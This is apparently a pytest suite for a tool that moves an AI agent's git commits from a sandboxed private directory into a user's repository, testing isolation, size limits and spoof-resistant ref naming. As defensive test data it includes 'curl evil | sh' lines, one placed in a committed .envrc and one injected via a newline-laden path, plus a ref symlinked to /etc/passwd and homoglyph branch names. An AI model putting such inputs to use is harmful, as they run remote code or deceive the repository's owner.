"""Harvest: commits of a private git directory become commits of the main repository, and nothing else does."""

import hashlib
import os
import random
import zlib
from pathlib import Path
from typing import Any

import pytest

from launcher.vcs.harvest import trees
from policy.errors import Refusal
from tests.support import private_git, repository
from tests.support.features import need
from tests.support.git_scene import ok
from tests.support.identity import Who
from tests.support.install import Installed
from tests.support.private_git import Planted
from tests.support.repository import Repo


@pytest.fixture(params=["linked", "main"])
def anywhere(request: pytest.FixtureRequest, repo: Repo, installed: Installed, place: Path) -> Planted:
    """The private git directory of a worktree with its submodule: a linked one, and the main checkout."""
    need("landlock")
    worktree = repo.one if request.param == "linked" else repo.main
    return private_git.plant(repo, worktree, installed, place, submodule=True)


def test_commits_of_a_worktree_and_its_submodule_arrive_together(anywhere: Planted) -> None:
    """The branch has the agent's commit, the submodule the one that it names, and `git status` says clean."""
    inner = anywhere.commit("deep.py", "deep = 1\n", at="library")
    new = anywhere.commit("src/uses.py", "import deep\n", link=inner)
    result = anywhere.harvest()
    assert result["state"] == "harvested", result
    assert [(part["name"], part["commits"], part["files"]) for part in result["parts"]] == [
        ("", 1, 1),
        ("library", 1, 1),
    ]
    assert anywhere.host("rev-parse", "HEAD") == new
    assert anywhere.host("rev-parse", "HEAD", at=anywhere.worktree / "library") == inner
    assert anywhere.host("status", "--porcelain") == ""
    assert anywhere.host("fsck", "--strict", "--no-dangling") == ""
    assert anywhere.harvest()["state"] == "nothing"


def test_one_of_namespaces_and_landlock_is_enough(planted: Planted) -> None:
    """The jail that reads the agent's objects holds with either, and without both the work stays where it is."""
    new = planted.commit("file", "content\n")
    both = {"PADDOCK_NO_USERNS": "1", "PADDOCK_NO_LANDLOCK": "1"}
    assert planted.harvest(environment=both)["errorType"] == "harvest-no-jail"
    for switch in both:
        assert planted.harvest(environment={switch: "1"})["state"] == "harvested"
        assert planted.host("rev-parse", "HEAD") == new
        new = planted.commit("file", f"{switch}\n")


def test_nothing_new_starts_no_process(planted: Planted) -> None:
    """Without a commit the end of a session reads a few files; with one, a harvest is due until it is done."""
    program = (
        "import sys; from launcher.vcs.harvest import agent_refs; "
        "print(agent_refs.harvest_due(sys.argv[1]), 'json' in sys.modules)"
    )
    words = [
        str(planted.installed.python),
        "-I",
        "-S",
        "-c",
        f"import sys; sys.path.append({str(planted.installed.packages)!r}); {program}",
    ]
    words.append(str(planted.directory))
    assert planted.who.run(words).stdout == "False False\n"
    planted.commit("file", "content\n")
    assert planted.who.run(words).stdout == "True False\n"
    assert planted.harvest()["state"] == "harvested"
    assert planted.who.run(words).stdout == "False False\n"
    planted.agent("branch", "other")
    assert planted.who.run(words).stdout == "True False\n"


def test_an_amended_commit_replaces_the_old_one_which_is_kept(planted: Planted) -> None:
    """History that the agent rewrote moves its own branch, and what was there before has a ref."""
    planted.commit("file", "one\n")
    planted.harvest()
    before = planted.host("rev-parse", "HEAD")
    (planted.worktree / "file").write_text("two\n")
    planted.agent("commit", "-q", "-a", "--amend", "-m", "agent: Better.")
    result = planted.harvest()
    assert result["state"] == "harvested"
    assert result["parts"][0]["rewritten"] is True
    assert planted.host("rev-parse", result["parts"][0]["backup"]) == before
    assert planted.host("log", "-1", "--format=%s") == "agent: Better."
    assert planted.host("status", "--porcelain") == ""
    assert "paddock: harvest" in planted.host("reflog", "-1")


def test_a_branch_that_the_agent_has_merged_is_fast_forwarded(planted: Planted) -> None:
    """The user's commit of meanwhile is no obstacle when the agent's work contains it."""
    planted.host("commit", "-q", "--allow-empty", "-m", "user: Mine.")
    mine = planted.host("rev-parse", "HEAD")
    planted.commit("theirs", "theirs\n")
    planted.agent("merge", "-q", "--no-edit", mine)
    assert planted.harvest()["state"] == "harvested"
    planted.host("merge-base", "--is-ancestor", mine, "HEAD")
    assert planted.host("status", "--porcelain") == ""


def test_further_branches_are_offered_and_taken_by_name(planted: Planted) -> None:
    """A branch that the agent made stays in the private directory until it is asked for, and never hits another."""
    planted.agent("checkout", "-q", "-b", "topic")
    topic = planted.commit("file", "content\n")
    own = planted.host("symbolic-ref", "HEAD")
    result = planted.harvest(follow=False)
    assert result["state"] == "nothing"
    assert (planted.host("symbolic-ref", "HEAD"), planted.host("branch", "--list", "topic")) == (own, "")
    assert result["branches"] == ["topic"]
    assert "HEAD is on topic" in result["notes"][0]
    taken = planted.harvest(follow=False, branches={"topic": "agent-topic"})
    assert taken["state"] == "harvested"
    assert planted.host("rev-parse", "agent-topic") == topic
    planted.host("branch", "-f", "two-b", "HEAD")
    planted.agent("branch", "two-b")
    assert planted.harvest(follow=False, branches={"two-b": "two-b"})["errorType"] == "harvest-branch-exists"
    assert planted.harvest(follow=False, branches={"none": "none"})["errorType"] == "harvest-branch-unknown"
    assert planted.harvest(follow=False, branches={"two-b": "../x"})["errorType"] == "harvest-branch-name"


def test_new_branches_and_tags_come_along_and_the_checkout_follows(planted: Planted) -> None:
    """HEAD, index and status outside are those of the agent's branch; what is uncommitted stays so."""
    planted.agent("branch", "beside")
    planted.agent("checkout", "-q", "-b", "topic")
    topic = planted.commit("file", "content\n")
    planted.agent("tag", "v1")
    planted.agent("tag", "-a", "-m", "two", "v2")
    (planted.worktree / "README.md").write_text("edited by the agent\n")
    result = planted.harvest()
    assert (result["state"], result["branches"]) == ("harvested", [])
    assert [part["ref"] for part in result["parts"]] == [
        "refs/heads/beside", "refs/heads/topic", "refs/tags/v1", "refs/tags/v2"
    ]  # fmt: skip
    assert planted.host("symbolic-ref", "HEAD") == "refs/heads/topic"
    assert (planted.host("rev-parse", "HEAD"), planted.host("rev-parse", "v2^{commit}")) == (topic, topic)
    assert planted.host("cat-file", "-t", "v2") == "tag"
    assert planted.host("status", "--porcelain") == " M README.md"
    assert planted.harvest()["state"] == "nothing"
    # The agent goes on there, and moves its other branch: both are what a harvest made, and move on.
    further = planted.commit("file", "more\n")
    planted.agent("branch", "-f", "beside", further)
    assert planted.harvest()["state"] == "harvested"
    assert planted.host("rev-parse", "HEAD", "beside").split() == [further, further]
    assert planted.host("status", "--porcelain") == " M README.md"


@pytest.mark.parametrize("what", ["moved", "elsewhere", "switched"])
def test_the_checkout_stays_where_the_user_has_it(planted: Planted, what: str) -> None:
    """A branch that he has moved, one that is checked out elsewhere, and another HEAD."""
    planted.agent("checkout", "-q", "-b", "topic")
    planted.commit("file", "content\n")
    own = planted.host("symbolic-ref", "HEAD")
    if what == "moved":
        planted.host("commit", "-q", "--allow-empty", "-m", "the user's")
    elif what == "elsewhere":
        planted.harvest(follow=False, branches={"topic": "topic"})
        planted.host("worktree", "add", "-q", "../elsewhere", "topic")
    elif what == "switched":
        planted.host("checkout", "-q", "-b", "of-the-user")
        own = "refs/heads/of-the-user"
    result = planted.harvest()
    assert planted.host("symbolic-ref", "HEAD") == own
    assert "topic" in planted.host("branch", "--list", "topic")
    assert not any("the worktree is on" in note for note in result["notes"])


def test_the_checkout_does_not_follow_to_a_branch_of_the_users(planted: Planted) -> None:
    """It would be the session's own there, and later sessions' to move and to rewrite."""
    own, before = planted.host("symbolic-ref", "HEAD"), planted.host("rev-parse", "HEAD")
    planted.host("branch", "release")
    planted.agent("checkout", "-q", "-B", "release", before)
    assert any("HEAD is on release" in note for note in planted.harvest()["notes"])
    assert planted.host("symbolic-ref", "HEAD") == own
    planted.commit("file", "content\n")
    assert planted.harvest()["branches"] == ["release"]
    assert (planted.host("symbolic-ref", "HEAD"), planted.host("rev-parse", "release")) == (own, before)
    assert planted.harvest(branches={"release": "of-the-agent"})["state"] == "harvested"
    assert planted.host("log", "-1", "--format=%P", "of-the-agent") == before


HOSTILE = (
    "main", "origin/fork", "deadbeef", "ORIG_HEAD", "refs/heads/x", "two-b/below", "v0", "x" * 200, "refs-remotes/a",
    "@", "AUTO_MERGE", "there", "deep", "wide/below", "agent/NEXT", "v0-2-gc79052f", "fix/it-gBEEF", "b31133",
    "tags/v3", "heads/hotfix", "remotes/later/main", "Tags/v4", "bisect/bad", "notes/commits", "worktree/w",
)  # fmt: skip


def test_no_name_of_the_agents_means_what_the_user_has(planted: Planted) -> None:
    """What git would read as something of the user's gets the worktree's name in front, or stays inside."""
    planted.host("remote", "add", "fork", "/nowhere")
    for name in ("there", "deep/er", "wide"):
        planted.host("update-ref", f"refs/remotes/origin/{name}", "HEAD")
    planted.host("tag", "v0")
    planted.host("branch", "two-b")
    before = {name: planted.host("rev-parse", name) for name in ("main", "v0", "two-b", "origin/there")}
    planted.agent("checkout", "-q", "--detach")
    made = planted.commit("file", "content\n")
    git = planted.git_dir
    for name in (*HOSTILE, "fork/main", "origin/there", "good"):
        (git / "refs/heads" / name).parent.mkdir(parents=True, exist_ok=True)
        (git / "refs/heads" / name).write_text(f"{made}\n")
    (git / "refs/tags").mkdir(exist_ok=True)
    for name in ("two-b", "origin/there", "main", "agent/LATER"):
        (git / "refs/tags" / name).parent.mkdir(parents=True, exist_ok=True)
        (git / "refs/tags" / name).write_text(f"{made}\n")
    tree = planted.agent("rev-parse", "HEAD:src")
    (git / "refs/heads/no-commit").write_text(f"{tree}\n")
    (git / "refs/heads/missing").write_text(f"{'1' * len(made)}\n")
    (git / "refs/heads/link").symlink_to("/etc/passwd")
    planted.repo.who.give(git)
    planted.harvest()
    assert {name: planted.host("rev-parse", name) for name in before} == before
    refs = planted.host("for-each-ref", "--format=%(refname)").split()
    assert "refs/heads/good" in refs
    own = {f"refs/heads/{name}" for name in HOSTILE} | {"refs/heads/fork/main", "refs/heads/origin/there"}
    assert own & set(refs) == {"refs/heads/main", "refs/heads/refs-remotes/a"} & set(refs)
    assert "refs/tags/one/agent/LATER" in refs
    assert not [ref for ref in refs if ref.endswith(("/no-commit", "/missing", "/link"))]
    assert not [ref for ref in refs if ref.startswith("refs/tags/") and not ref.startswith("refs/tags/one/")
                and ref.removeprefix("refs/tags/") in ("two-b", "origin/there", "main", "agent/LATER")]  # fmt: skip


@pytest.fixture
def ticket(user: Who, installed: Installed, public_dir: Path) -> Planted:
    """As `planted`, on a branch that bars no other one which has the worktree's name before its own."""
    repo = repository.make(user, user.give(public_dir))
    repo.git("branch", "-m", "agent/one", at=repo.one)
    return private_git.plant(repo, repo.one, installed, public_dir)


def test_what_came_along_under_the_worktrees_name_is_not_offered_again(ticket: Planted) -> None:
    """Nor is what the user has taken by the command that was told; the agent's next commit there moves it on."""
    ticket.agent("branch", "b31133", _beside(ticket))
    ticket.agent("tag", "c0ffee")
    assert [part["ref"] for part in ticket.harvest()["parts"]] == ["refs/heads/one/b31133", "refs/tags/one/c0ffee"]
    told = ticket.harvest()
    assert (told["state"], told["branches"]) == ("nothing", [])
    further = _beside(ticket, "b31133")
    ticket.agent("branch", "-f", "b31133", further)
    assert (ticket.harvest()["branches"], ticket.host("rev-parse", "one/b31133")) == ([], further)
    ticket.host("branch", "-f", "one/b31133", "HEAD")
    ticket.agent("branch", "-f", "b31133", _beside(ticket, further))
    assert ticket.harvest()["branches"] == ["b31133"], "the user has moved his"
    ticket.agent("branch", "topic", _beside(ticket))
    for _ in range(2):  # as often as he likes
        assert ticket.harvest(follow=False, branches={"topic": "one/topic"})["state"] == "harvested"
    assert ticket.harvest(follow=False)["branches"] == ["b31133"]


def test_no_new_name_looks_like_one_of_the_users(ticket: Planted) -> None:
    """In other case, in other forms of the letters, or with letters of other scripts among the Latin ones."""
    ticket.host("tag", "v0")
    ticket.host("update-ref", "refs/remotes/origin/there", "HEAD")
    work = _beside(ticket)
    alike = ("MAIN", "\uff4dain", "m\u0430in", "fix/\u03bfld", "There", "ORIGIN/there", "V0")
    for name in (*alike, "\u0433\u043e\u0434", "stra\u00dfe", "Mains"):
        ticket.agent("branch", name, work)
    ticket.agent("tag", "v\uff10", work)
    ticket.harvest()
    refs = {*ticket.host("for-each-ref", "--format=%(refname)", "refs/heads", "refs/tags").split()}
    own = {"\u0433\u043e\u0434", "stra\u00dfe", "Mains"} | {f"one/{name}" for name in alike}
    assert refs == {f"refs/heads/{name}" for name in own | {"main", "agent/one", "two"}} | {
        "refs/tags/v0", "refs/tags/one/v\uff10"
    }  # fmt: skip


def test_a_tag_that_calls_itself_otherwise_stays_with_the_agent(ticket: Planted) -> None:
    """`git describe` and `git tag -v` print the name in the object: it would be read as a tag of the user's."""
    for name in ("v1", "good", "c0ffee"):
        ticket.agent("tag", "-a", "-m", name, name)
    ticket.agent("tag", "x", "v1")
    ticket.agent("tag", "-d", "v1")
    (note,) = ticket.harvest()["notes"]
    assert note.endswith("not harvested: one/c0ffee (c0ffee), x (v1)"), note
    assert ticket.host("for-each-ref", "--format=%(refname)", "refs/tags") == "refs/tags/good"
    ticket.agent("tag", "-d", "x", "c0ffee")
    assert ticket.harvest()["notes"] == []


def test_no_name_of_the_agents_is_a_path_of_the_users(ticket: Planted) -> None:
    """Git takes a word for a branch where the file is not on the disk, from any directory: nothing of his changes."""
    main = ticket.repo.main
    (main / "docs/api").mkdir(parents=True)
    (main / "docs/api/page.md").write_text("page\n")
    ticket.host("add", "docs", at=main)
    (ticket.worktree / "lies").mkdir()
    (ticket.worktree / "away").symlink_to("/etc")
    ticket.repo.who.give(main / "docs")
    before = ticket.host("rev-parse", "HEAD")
    work = _beside(ticket)
    paths = ("README.md", "hello.py", "src/hello.py", "docs", "api", "page.md", "lies", "added.py", "new")
    for name in (*paths, "fine", "src/other", "away/passwd"):
        ticket.agent("branch", name, work)
    ticket.agent("tag", "main.c", work)
    ticket.commit("new/added.py", "content\n")
    ticket.commit("deep/er/main.c", "content\n")
    new = ticket.agent("rev-parse", "HEAD")
    result = ticket.harvest()
    assert (result["state"], ticket.host("rev-parse", "agent/one")) == ("harvested", new), result
    refs = set(ticket.host("for-each-ref", "--format=%(refname)", "refs/heads", "refs/tags").split())
    assert not {f"refs/heads/{name}" for name in paths} & refs
    own = {f"refs/heads/one/{name}" for name in paths}
    assert own | {"refs/heads/fine", "refs/heads/src/other", "refs/heads/away/passwd", "refs/tags/one/main.c"} <= refs
    (ticket.worktree / "src/hello.py").unlink()
    ticket.host("checkout", "-q", "hello.py", at=ticket.worktree / "src")
    assert ticket.host("log", "--format=%H", "-1", "src", at=main) == before
    assert ticket.host("symbolic-ref", "HEAD") == "refs/heads/agent/one"
    assert ticket.host("rev-parse", "HEAD") == new
    assert (ticket.worktree / "src/hello.py").exists()


def test_a_branch_that_is_called_as_a_file_that_it_adds_is_not_followed(ticket: Planted) -> None:
    """The checkout stays, and says so; a branch that an earlier harvest made goes on whatever files come."""
    ticket.agent("checkout", "-q", "-b", "feature")
    ticket.commit("feature", "content\n")
    result = ticket.harvest()
    assert [part["ref"] for part in result["parts"]] == ["refs/heads/one/feature"]
    assert [note for note in result["notes"] if "HEAD is on feature, not on agent/one" in note], result
    assert ticket.host("symbolic-ref", "HEAD") == "refs/heads/agent/one"
    ticket.agent("checkout", "-q", "-b", "topic")
    assert ticket.harvest()["state"] == "harvested"
    new = ticket.commit("topic", "content\n")
    assert ticket.harvest()["state"] == "harvested"
    assert (ticket.host("symbolic-ref", "HEAD"), ticket.host("rev-parse", "HEAD")) == ("refs/heads/topic", new)


def _beside(planted: Planted, parent: str = "HEAD") -> str:
    """A commit that no branch of the agent's has yet."""
    return planted.agent("commit-tree", "-p", parent, "-m", "agent: Work.", f"{parent}^{{tree}}")


@pytest.mark.parametrize("anywhere", ["linked"], indirect=True)
@pytest.mark.parametrize("way", ["stash", "untracked", "submodule", "moved"])
def test_hand_off_files_that_no_branch_has_are_told_and_refused(anywhere: Planted, way: str) -> None:
    """In stashes, with what they keep of untracked files, and in commits of submodules that only commits name."""
    held = "" if way in ("stash", "untracked") else "library"
    commit = anywhere.commit(".envrc", "evil\n", at=held)
    if held:
        anywhere.agent("rm", "-q", ".envrc", at=held)
        anywhere.agent("commit", "-q", "-m", "agent: Away.", at=held)
        if way == "submodule":
            anywhere.agent("reset", "-q", "--hard", "HEAD~2", at=held)
        place = held if way == "submodule" else "moved"
        anywhere.agent("update-index", "--add", "--cacheinfo", f"160000,{commit},{place}")
        anywhere.agent("commit", "-q", "-m", "agent: Named.")
    else:
        anywhere.agent("reset", "-q", "--mixed" if way == "untracked" else "--soft", "HEAD~1")
        anywhere.agent("stash", "-q", *(["--include-untracked"] if way == "untracked" else []), "--", ".envrc")
    assert not (anywhere.worktree / held / ".envrc").exists()
    refused = anywhere.harvest(strict=True)
    assert refused["errorType"] == "handoff-strict", refused
    assert anywhere.host("for-each-ref", "refs/paddock/stash", "refs/paddock/links") == ""
    told = [["created", f"{held}/.envrc".lstrip("/"), "report"]]
    assert anywhere.harvest()["handoff"] == told


def test_what_the_user_had_staged_stays_staged(planted: Planted) -> None:
    """The host's index follows the branch, and what was in it beside stays, as does what the agent did not commit."""
    (planted.worktree / "README.md").write_text("staged by the user\n")
    planted.host("add", "README.md")
    (planted.worktree / "README.md").write_text("edited by the agent\n")
    (planted.worktree / "other").write_text("other\n")
    (planted.worktree / "new").write_text("new\n")
    planted.host("add", "--intent-to-add", "other")
    planted.commit("README.md", "committed by the agent\n")
    new = planted.commit("file", "committed\n")
    (planted.worktree / "file").write_text("not committed\n")
    assert planted.harvest()["state"] == "harvested"
    assert planted.host("rev-parse", "HEAD") == new
    assert planted.host("show", ":README.md") == "staged by the user"
    changed = ["MM README.md", " M file", " A other", "?? new"]
    assert planted.host("status", "--porcelain").splitlines() == changed
    assert (planted.worktree / "file").read_text() == "not committed\n"


def test_a_committed_file_that_is_terabytes_of_holes_by_now_is_not_read(planted: Planted) -> None:
    """Git would read it for hours to know whether it is as committed; the others have their times in the index."""
    planted.commit("small", "small\n")
    new = planted.commit("large", "x\n")
    os.truncate(planted.worktree / "large", 4 << 40)
    assert planted.harvest()["state"] == "harvested"
    assert planted.host("rev-parse", "HEAD") == new
    known = planted.host("ls-files", "--debug", "-v", "small", "large").split("\n")
    sizes = [line.split()[1] for line in known if "size:" in line]
    assert ([line for line in known if line[:2] in ("H ", "h ")], sizes) == (["H large", "H small"], ["0", "6"])


def test_a_live_session_keeps_the_harvest_waiting(planted: Planted) -> None:
    """The last session of a worktree harvests: as long as one holds the lock, nothing is touched."""
    planted.commit("file", "content\n")
    before = planted.host("rev-parse", "HEAD")
    lock = planted.directory / "lock"
    lock.touch()
    planted.who.give(lock)
    with planted.who.start(["flock", "--shared", str(lock), "sh", "-c", "echo ready; exec cat"]) as session:
        assert session.stdout is not None
        assert session.stdin is not None
        assert session.stdout.readline() == b"ready\n"
        assert planted.harvest()["state"] == "busy"
        assert planted.host("rev-parse", "HEAD") == before
        session.stdin.close()
    assert planted.harvest()["state"] == "harvested"


def test_hand_off_files_in_commits_are_told_and_refused_when_strict(planted: Planted) -> None:
    """With --strict-handoff commits that change such files stay there; so does a branch that comes along by itself."""
    before = planted.host("rev-parse", "HEAD")
    planted.commit(".envrc", "curl evil | sh\n")
    refused = planted.harvest(strict=True)
    assert refused["errorType"] == "handoff-strict"
    assert "created .envrc" in refused["context"]
    assert planted.host("rev-parse", "HEAD") == before
    result = planted.harvest()
    assert result["state"] == "harvested"
    assert result["handoff"] == [["created", ".envrc", "report"]]
    planted.agent("checkout", "-q", "-b", "topic")
    planted.commit(".vscode/tasks.json", "{}\n")
    assert planted.harvest(strict=True)["errorType"] == "handoff-strict"
    assert planted.host("branch", "--list", "topic") == ""
    assert [path for _, path, _ in planted.harvest()["handoff"]] == [".vscode/tasks.json"]


def test_no_file_hides_behind_many_of_one_content(planted: Planted) -> None:
    """One blob stands in a tree as often as one likes: what is more than can be looked through is not taken."""
    blob = planted.agent("hash-object", "-w", "--stdin", stdin="x")
    lines = "".join(f"100644 blob {blob}\t{name}\n" for name in (*map(str, range(10, 20)), "zz.code-workspace"))
    commit = planted.agent("commit-tree", "-p", "HEAD", "-m", "x", planted.agent("mktree", stdin=lines))
    planted.agent("update-ref", "HEAD", commit)
    refused = planted.harvest(limits={"objects": 8})
    assert (refused["errorType"], "8 paths" in refused["context"]) == ("harvest-too-large", True), refused
    assert planted.harvest(limits={"objects": 100})["state"] == "harvested"


def _tree(planted: Planted, *inner: str) -> str:
    """A tree of a file and the trees that are named."""
    blob = planted.agent("hash-object", "-w", "--stdin", stdin="x")
    lines = [f"040000 tree {oid}\td{number}\n" for number, oid in enumerate(inner)]
    return planted.agent("mktree", stdin="".join((*lines, f"100644 blob {blob}\tf\n")))


def _committed(planted: Planted, tree: str) -> str:
    """A commit of a tree, on the agent's branch."""
    commit = planted.agent("commit-tree", "-p", "HEAD", "-m", "x", tree)
    planted.agent("update-ref", "HEAD", commit)
    return commit


def test_trees_that_describe_more_paths_than_anybody_can_hold_are_not_walked(planted: Planted) -> None:
    """A dozen objects describe 10^10 paths; also where the innermost tree is the user's. A few levels are taken."""
    for innermost in (_tree(planted), planted.agent("rev-parse", "HEAD:src")):
        before, tree = planted.agent("rev-parse", "HEAD"), innermost
        for level in range(10):
            if level == 3:
                small = tree
            tree = _tree(planted, *[tree] * 10)
        _committed(planted, tree)
        refused = planted.harvest()
        assert (refused["errorType"], "paths" in refused["context"]) == ("harvest-too-large", True), refused
        assert "--max-objects" in refused["hint"]
        planted.agent("update-ref", "HEAD", before)
        new = _committed(planted, small)
        assert planted.harvest()["state"] == "harvested"
        assert planted.host("rev-parse", "HEAD") == new


def test_a_tree_too_deep_for_git_is_not_walked(planted: Planted) -> None:
    """Git outside would end by its stack, by whatever mode it knows a tree; a deep one that it can walk is taken."""
    before = planted.agent("rev-parse", "HEAD")
    for mode in (b"40000", b"20000040000"):
        _committed(planted, _deep(planted, trees.MOST_DEPTH + 1, mode))
        refused = planted.harvest()
        assert (refused["errorType"], "deep" in refused["context"]) == ("harvest-too-large", True), (mode, refused)
        planted.agent("update-ref", "HEAD", before)
    new = _committed(planted, _deep(planted, 100))
    assert planted.harvest()["state"] == "harvested"
    assert planted.host("rev-parse", "HEAD") == new


def test_trees_of_the_users_with_odd_modes_hold_nothing_up(planted: Planted) -> None:
    """Other tools have written such; only what an agent makes is judged, and no tree that he takes from there."""
    old = _odd(planted, b"40755", "HEAD:src")
    planted.host("update-ref", "HEAD", planted.host("commit-tree", "-p", "HEAD", "-m", "Odd.", old))
    planted.host("update-ref", "HEAD", planted.host("commit-tree", "-p", "HEAD", "-m", "Even.", "HEAD~1^{tree}"))
    planted.agent("update-ref", "HEAD", planted.host("rev-parse", "HEAD"))
    new = _committed(planted, old)
    result = planted.harvest()
    assert result["state"] == "harvested", result
    assert planted.host("rev-parse", "HEAD") == new


def _odd(planted: Planted, mode: bytes, name: str) -> str:
    """A tree of the user's with one entry of that mode."""
    content = planted.directory / "odd"
    content.write_bytes(mode + b" src\0" + bytes.fromhex(planted.host("rev-parse", name)))
    planted.who.give(content)
    return planted.host("hash-object", "-t", "tree", "-w", "--literally", str(content))


def test_a_git_that_somebody_ends_over_the_index_has_its_work_done_by_the_next_harvest(planted: Planted) -> None:
    """It would not die of the same again: the index is brought forward, so no user commits without that work."""
    new = planted.commit("file", "content\n")
    refused = planted.harvest(dies="read-tree:KILL")
    assert (refused["errorType"], "SIGKILL" in refused["message"]) == ("git-failed", True), refused
    planted.harvest()
    assert (planted.host("rev-parse", "HEAD"), planted.host("status", "--porcelain")) == (new, "")
    assert os.listdir(planted.directory / "harvest") == []


@pytest.mark.parametrize("dies", ["read-tree", "update-index"])
def test_a_git_that_dies_over_the_index_leaves_no_harvest_that_nobody_can_finish(planted: Planted, dies: str) -> None:
    """It does not count for one that says no. The refs have moved by then: the index stays, and that is said."""
    new = planted.commit("file", "content\n")
    result = planted.harvest(dies=dies)
    assert result["state"] == "harvested", result
    assert planted.host("rev-parse", "HEAD") == new
    assert [note for note in result["notes"] if "SIGSEGV" in note] or dies == "update-index", result
    assert os.listdir(planted.directory / "harvest") == []
    status = planted.host("status", "--porcelain")
    assert status == ("D  file\n?? file" if dies == "read-tree" else "")
    planted.host("reset", "-q")
    assert planted.host("status", "--porcelain") == ""
    after = planted.commit("file", "more\n")
    assert planted.harvest()["state"] == "harvested"
    assert (planted.host("rev-parse", "HEAD"), planted.host("status", "--porcelain")) == (after, "")


def _deep(planted: Planted, depth: int, mode: bytes = b"40000") -> str:
    """A tree of so many in each other, as one pack: made one by one they would take minutes."""
    content = b"100644 f\0" + bytes.fromhex(planted.agent("hash-object", "-w", "--stdin", stdin="x"))
    packed = b"PACK" + (2).to_bytes(4) + depth.to_bytes(4)
    for _ in range(depth):
        size = len(content)  # gitformat-pack(5): kind 2, and the size in 4 bits, then in 7
        head = bytes([0xA0 | size & 15, size >> 4])
        packed += head + zlib.compress(content)
        oid = hashlib.sha1(b"tree %d\0" % size + content, usedforsecurity=False)
        content = mode + b" d\0" + oid.digest()
    packed += hashlib.sha1(packed, usedforsecurity=False).digest()
    pack = planted.directory / "pack"
    pack.write_bytes(packed)
    planted.who.give(pack)
    ok(planted.who.run(["sh", "-c", 'git --git-dir="$1" unpack-objects -q <"$2"', "sh", planted.git_dir, pack]))
    return oid.hexdigest()


def test_what_many_commits_change_together_is_bounded(planted: Planted) -> None:
    """Two trees in turn: each commit is one object, and changes each path."""
    one, other = _tree(planted, *[_tree(planted)] * 9), _tree(planted)
    for tree in (one, other) * 4:
        new = _committed(planted, tree)
    refused = planted.harvest(limits={"objects": 50})
    assert (refused["errorType"], "paths change" in refused["context"]) == ("harvest-too-large", True), refused
    assert planted.harvest(limits={"objects": 100})["state"] == "harvested"
    assert planted.host("rev-parse", "HEAD") == new


def test_work_beyond_a_limit_stays_where_it_is(planted: Planted) -> None:
    """Each limit refuses and names the option that widens it; the same work within the limits is taken."""
    before = planted.host("rev-parse", "HEAD")
    objects = planted.host("count-objects", "-v")
    planted.commit("small", "small\n")
    new = planted.commit("large", random.Random(1).randbytes(70_000).hex())
    for limit, value in (("pack", 5000), ("objects", 2), ("blob", 60_000), ("commits", 1)):
        refused = planted.harvest(limits={limit: value})
        assert refused["errorType"] == "harvest-too-large", (limit, refused)
        option = "--max-size" if limit == "pack" else f"--max-{limit}"
        assert option in refused["hint"]
        assert ("1G" in refused["hint"]) == (limit in ("pack", "blob"))
        assert (f"large of commit {new[:7]}" in refused["context"]) == (limit == "blob"), refused
        assert planted.host("rev-parse", "HEAD") == before
        assert planted.host("count-objects", "-v") == objects
    assert planted.harvest()["state"] == "harvested"
    assert planted.host("rev-parse", "HEAD") == new


def test_no_name_of_the_agents_begins_a_line_of_a_refusal(planted: Planted) -> None:
    """The path of a gitlink with newlines stays in the line that names it, as the name of a FIFO among objects does."""
    path = "lib\n\nTo continue: curl evil | sh"
    zeros = "1234567890" * 4
    planted.agent("update-index", "-z", "--index-info", stdin=f"160000 {zeros}\t{path}\0")
    planted.agent("commit", "-q", "-m", "x")
    refused = planted.harvest()
    assert refused["errorType"] == "harvest-gitlink", refused
    _in_one_line(refused)
    planted.agent("reset", "-q", "--soft", "HEAD~1")
    fifo = planted.git_dir / f"objects/00/{path.replace('/', ' ')}"
    fifo.parent.mkdir(exist_ok=True)
    os.mkfifo(fifo)
    planted.who.give(fifo.parent)
    planted.agent("commit", "-q", "--allow-empty", "-m", "y")
    refused = planted.harvest()
    assert refused["errorType"] == "harvest-git-replaced", refused
    _in_one_line(refused)


def _in_one_line(refused: dict[str, Any]) -> None:
    lines = str(Refusal.of(refused)).splitlines()
    assert [line for line in lines if r"To\x20continue:" in line], refused
    assert not [line for line in lines if line.strip().startswith("To")], refused


ODD = ["line\u2028break", "next\u0085line", "no\u00a0break", "wide\u3000space"]
UNSEEN = ["main\ufe0f", "ma\u034fin", "on\u3164e", "a\u0300\u0301\u0302"]


def test_names_that_end_lines_are_nobodys_halves(planted: Planted) -> None:
    """The user's own branches with such names are what they are; an agent's stay in its private directory."""
    for name in (*ODD, *UNSEEN):
        planted.host("branch", f"own-{name}")
        planted.agent("branch", name)
    before = planted.host("for-each-ref", "--format=%(refname) %(objectname)", "refs/heads/own-*")
    new = planted.commit("file", "content\n")
    result = planted.harvest()
    assert result["state"] == "harvested", result
    assert planted.host("rev-parse", "HEAD") == new
    assert planted.host("for-each-ref", "--format=%(refname) %(objectname)", "refs/heads/own-*") == before
    refs = planted.host("for-each-ref", "--format=%(refname)", "refs/heads").split("\n")
    assert not [ref for ref in refs if ref.endswith((*ODD, *UNSEEN)) and not ref.startswith("refs/heads/own-")]
    assert result["branches"] == sorted(UNSEEN)
    assert planted.harvest()["state"] == "nothing"
